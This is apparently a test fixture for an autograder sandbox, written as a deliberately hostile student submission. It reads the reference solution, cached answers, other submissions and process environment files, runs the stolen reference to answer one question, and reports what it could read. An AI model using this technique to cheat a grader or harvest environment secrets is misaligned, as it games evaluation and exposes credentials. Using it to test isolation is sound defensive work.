"""Hostile: read the reference solution, the specs, the cached expected answers, the environment and
other students' files, and answer with what it finds.

Attack: find the course (/work/main, or the grader's PWD), open its solutions/genmodels.py,
problems/genmodels/2d.yaml, the reference cache .grade-cache/*.json, submissions/genmodels/perfect.py (another "student"), list /tmp and
/root, read os.environ, /proc/<parent>/environ and /proc/1/environ. q2d answers with the expected
value computed by running the stolen reference with its own parameters (or else taken from the
cache, which may hold another variant's); q3a reports what was readable.

Expected at the strict level: none of it is visible (the sandbox's file system holds only the
interpreter, the harness and this file; its PID namespace shows no grader process), so q2d is not
answered. At the process level the child runs as the grader's own user with the grader's view of
the file system: every read succeeds and q2d is right. That is the documented limit of the process
level (no file-system isolation), not a bug: grade untrusted code with strict isolation.
"""
# ATTACKED: q2d
# HONEST: q1a q2a q4c_alpha1 q4c_alpha2
# WINS-AT-PROCESS: q2d

import glob
import json
import math
import os

q1a = "Normalizing flows"
q2a = -math.log(2)
q4c_alpha1 = 0.9
q4c_alpha2 = 0.8

report = []


def _course():
    """The course: /work/main here, or wherever the grader was started (its PWD)."""
    candidates = ["/work/main"]
    try:
        with open(f"/proc/{os.getppid()}/environ", "rb") as f:
            for item in f.read().split(b"\0"):
                if item.startswith(b"PWD="):
                    candidates.insert(0, item[4:].decode())
    except OSError:
        pass
    for candidate in candidates:
        if os.path.exists(os.path.join(candidate, "solutions", "genmodels.py")):
            return candidate
    return "/work/main"


COURSE = _course()
report.append(f"COURSE={COURSE}")


def _read(path, limit=200):
    try:
        with open(path, "rb") as f:
            data = f.read(limit)
        report.append(f"READ {path}")
        return data
    except OSError as exc:
        report.append(f"unreadable {path} ({type(exc).__name__})")
        return None


def _list(path):
    try:
        names = sorted(os.listdir(path))
        report.append(f"LISTED {path}: {len(names)} entries")
        return names
    except OSError as exc:
        report.append(f"unlistable {path} ({type(exc).__name__})")
        return []


_read(f"{COURSE}/solutions/genmodels.py")
_read(f"{COURSE}/problems/genmodels/2d.yaml")
_read(f"{COURSE}/submissions/genmodels/perfect.py")
_list("/tmp")
_list("/root")
_list(COURSE)
for pid in ("1", str(os.getppid())):
    data = _read(f"/proc/{pid}/environ", 1 << 16)
    if data:
        report.append(f"/proc/{pid}/environ holds {data.count(b'=')} variables")
report.append("own environment: " + ", ".join(sorted(os.environ)))

cached = None  # read first: a cache holds every variant's answers, so running the reference is surer
for path in glob.glob(f"{COURSE}/.grade-cache/genmodels-*.json"):
    try:
        with open(path) as f:
            cached = json.load(f).get("q2d")
        report.append(f"READ {path}")
        break
    except (OSError, ValueError):
        report.append(f"unreadable {path}")
stolen = None
source = _read(f"{COURSE}/solutions/genmodels.py", 1 << 20)
if source:
    namespace = {"PARAMETERS": globals().get("PARAMETERS", {}), "__name__": "stolen"}
    try:
        exec(compile(source, "stolen.py", "exec"), namespace)
        stolen = namespace.get("q2d")
    except Exception as exc:
        report.append(f"could not run the stolen reference: {type(exc).__name__}")
if stolen is None:
    stolen = cached

q2d = stolen  # None (not answered) where nothing could be read


def q3a():
    return "SECTEST what the submission could read:\n" + "\n".join(report)
